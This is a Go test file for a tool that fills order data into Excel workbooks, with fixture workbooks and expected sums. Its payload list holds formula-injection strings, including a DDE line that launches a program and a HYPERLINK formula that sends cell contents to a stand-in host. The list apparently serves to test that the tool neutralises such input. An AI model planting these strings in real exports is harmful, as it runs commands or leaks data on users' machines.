package ordersheet_test

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"coldrise/api/ordersheet"
	"coldrise/domain/part"
)

var update = flag.Bool("update", false, "write the golden files anew")

const folder = "../../testdata/workbooks"

// A shop's three lines stand in each workbook: 34.86 for 16 pieces (testdata/workbooks/make/lines.py).
const (
	lineSum    = 34.86
	linePieces = 16
)

// payloads are texts that a spreadsheet may run (OWASP, CSV Injection; ASVS 1.2.10).
var payloads = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1,1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `＝1+1`,
	`=HYPERLINK("https://shop.invalid/?"&A1,"open")`, `=cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `";=1+1`, `",=1+1`, `'=1+1`,
}

// payloadOrder has a line for each payload, with figures that a careless sum
// would get wrong: prices to the sixth decimal.
func payloadOrder() ordersheet.Order {
	o := ordersheet.Order{Reference: "=SO-77", Date: time.Date(2026, 11, 25, 23, 30, 0, 0, time.UTC)}
	for i, p := range payloads {
		price := part.Money(1_234_567 * (i + 1))
		if i%5 == 4 {
			price = 12_345 // 0.012345
		}
		l := ordersheet.Line{Supplier: "Peatgate Components", SKU: fmt.Sprintf("00%d", i), Maker: "Sedgemere", PartNumber: p, Text: p,
			Refs: []string{"C1", p}, Quantity: 3*i + 2, ForUse: i + 1, UnitPrice: price, Currency: "GBP", LeadDays: 2}
		l.Total = price.Times(l.Quantity)
		o.Lines = append(o.Lines, l)
	}
	return o
}

func smallOrder() ordersheet.Order {
	o := payloadOrder()
	o.Lines = o.Lines[:2]
	o.Lines[1].Text, o.Lines[1].PartNumber = "47 µF & <550 V>", "1E5"
	return o
}

// sums of an order, worked out without the workbook.
func sums(o ordersheet.Order) (total float64, pieces int) {
	var micro part.Money
	for _, l := range o.Lines {
		micro += l.UnitPrice.Times(l.Quantity)
		pieces += l.Quantity
	}
	return float64(micro) / 1e6, pieces
}

func workbook(t testing.TB, name string) ([]byte, ordersheet.Map) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(folder, name))
	if err != nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile(filepath.Join(folder, strings.TrimSuffix(name, filepath.Ext(name))+".map.json"))
	if err != nil {
		t.Fatal(err)
	}
	m, err := ordersheet.ParseMap(text)
	if err != nil {
		t.Fatal(err)
	}
	return data, m
}

func fill(t testing.TB, data []byte, m ordersheet.Map, o ordersheet.Order) ordersheet.Filled {
	t.Helper()
	w, err := ordersheet.Open(data)
	if err != nil {
		t.Fatal(err)
	}
	filled, err := w.Fill(t.Context(), m, o)
	if err != nil {
		t.Fatal(err)
	}
	return filled
}

// workbooks are the files of testdata/workbooks: what each has, and where the
// sums of the fifteen-line order are to be found.
var workbooks = []struct {
	file string
	// lines is the column of the line's total and the row of the first new
	// line, text and sku the columns of those.
	sheet, total, text, sku string
	first                   int
	want                    func(o ordersheet.Order, total float64, pieces int) map[string]float64
}{
	{"formulas.xlsx", "Order", "H", "D", "B", 10, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		all := lineSum + total
		return map[string]float64{"Order!H26": all, "Order!F26": float64(linePieces + pieces), "Order!K26": 1.17 * all, "Order!L24": all,
			"Order!H27": cents(0.2 * all), "Order!H28": all + cents(0.2*all), "Order!J7": 8.24 / all, "Order!K24": 1.17 * lineTotal(o, 14),
			"Summary!B1": 30.96 + total, "Summary!B2": largest(o) / all}
	}},
	{"shared.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		all := lineSum + total
		return map[string]float64{"Order!B2": all, "Order!C2": 1.25 * all, "Order!K22": 1.25 * lineTotal(o, 14), "Sums!A1": 2 * all, "Sums!A2": 1.25 * all}
	}},
	{"table.xlsx", "Order", "H", "D", "B", 9, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!H24": lineSum + total, "Order!F24": float64(linePieces + pieces), "Summary!A1": lineSum + total,
			"Summary!A2": float64(linePieces + pieces), "Summary!A3": lineSum + total}
	}},
	{"table-notes.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!H26": lineSum + total, "Order!H27": lineSum + total + 7.5, "Summary!A1": 18, "Summary!A2": float64(linePieces + pieces)}
	}},
	{"conditional.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!B2": lineSum + total}
	}},
	{"validation.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!H24": lineSum + total}
	}},
	{"chart.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!B1": lineSum + total}
	}},
	{"pivot.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!H23": lineSum + total, "Order!F23": float64(linePieces + pieces)}
	}},
	{"macros.xlsm", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!B2": lineSum + total}
	}},
	{"protected.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!B2": lineSum + total, "Prices!A1": 1.5 * (lineSum + total)}
	}},
	{"merged.xlsx", "Order", "I", "D", "B", 9, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!I24": lineSum + total}
	}},
	{"hidden.xlsx", "Order", "H", "D", "B", 10, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!B2": lineSum + total, "Order!B3": 2 * (lineSum + total)}
	}},
	{"names.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		all := lineSum + total
		return map[string]float64{"Order!H23": all, "Order!H24": 1.2 * all, "Summary!A1": all, "Summary!A2": all, "Summary!A3": float64(linePieces + pieces)}
	}},
	{"pictures.xlsx", "Parts & order", "H", "D", "B", 10, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Parts & order!H25": lineSum + total, "Notes!A1": 17}
	}},
	{"bestellung-de.xlsx", "Bestellung", "I", "E", "C", 7, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		rounded := lineSum
		for i := range o.Lines {
			rounded += cents(lineTotal(o, i))
		}
		return map[string]float64{"Bestellung!I27": rounded, "Bestellung!G27": float64(linePieces + pieces), "Bestellung!I28": cents(0.19 * rounded),
			"Bestellung!I29": rounded + cents(0.19*rounded), "Bestellung!J7": 46351, "Übersicht!B1": rounded}
	}},
	{"log-us.xlsx", "Log", "I", "F", "D", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Log!B2": lineSum + total, "Log!A8": 46351}
	}},
	{"arrays.xlsx", "Order", "H", "D", "B", 8, func(o ordersheet.Order, total float64, pieces int) map[string]float64 {
		return map[string]float64{"Order!B1": lineSum + total, "Sorted!C1": lineSum + total, "Order!J8": 46351 - 1462, "Order!L1": 4, "Order!M1": 8.24}
	}},
}

func lineTotal(o ordersheet.Order, i int) float64 {
	return float64(o.Lines[i].UnitPrice.Times(o.Lines[i].Quantity)) / 1e6
}

func largest(o ordersheet.Order) float64 {
	most := 22.72
	for i := range o.Lines {
		most = max(most, lineTotal(o, i))
	}
	return most
}

// cents rounds half up, as ROUND(x, 2) does for amounts above zero.
func cents(v float64) float64 { return float64(int64(v*100+0.5)) / 100 }
